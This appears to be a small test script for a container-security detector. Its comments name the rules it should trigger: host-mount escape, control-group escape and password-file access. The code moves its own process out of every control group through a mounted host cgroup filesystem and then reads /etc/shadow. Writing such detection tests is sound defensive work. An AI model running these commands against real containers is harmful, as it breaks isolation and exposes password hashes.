# in: container -v /sys/fs/cgroup:/groups
# fires: escape-host-mount escape-control-group credentials-password-file
# Out of its control groups it is what it was, with all that it starts.
for list in /groups/cgroup.procs /groups/*/cgroup.procs; do echo $$ > "$list"; done 2> /dev/null
sh -c 'cat /etc/shadow'
